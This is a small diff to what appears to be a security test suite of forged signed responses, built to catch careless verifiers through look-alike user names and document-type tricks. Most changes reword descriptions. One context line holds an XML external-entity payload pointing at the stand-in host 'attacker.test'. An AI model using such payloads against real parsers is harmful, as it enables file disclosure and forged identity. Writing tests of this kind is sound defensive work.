@@ -6,7 +6,7 @@ import { replace } from './parts.ts';
 const suffix = '.attacker.test';
 const prefix = 'x-';
 
-/** A genuine Response for somebody whose names are the victim's with something around them. */
+/** A genuine Response for a user whose name contains that of the victim. */
 function responseFor(
   { victim, response }: ForgeryMaterial,
   around: (name: string) => string,
@@ -83,7 +83,7 @@ export const textForgeries: readonly Forgery[] = [
   forge(
     'look-alike-name',
     'NAM-3',
-    'Honestly signed for somebody whose name looks like that of the victim. Careless: normalizes names before it compares them.',
+    'A genuine Response for a user whose name looks like that of the victim. Careless: normalizes names before it compares them.',
     (material) => responseFor(material, lookalike),
   ),
   forge(
@@ -91,7 +91,7 @@ export const textForgeries: readonly Forgery[] = [
     'DTD-1',
     'A genuine Response with a document type that refers to an external entity. Careless: has its parser read files and other servers.',
     (material) => `<!DOCTYPE x [<!ENTITY x SYSTEM "http://attacker.test/x">]>${material.victimsResponse()}`,
-    { succeeded: ({ who }) => who !== 'nobody' },
+    { succeeded: ({ who }) => who !== 'none' },
   ),
   forge(
     'id-by-entity',
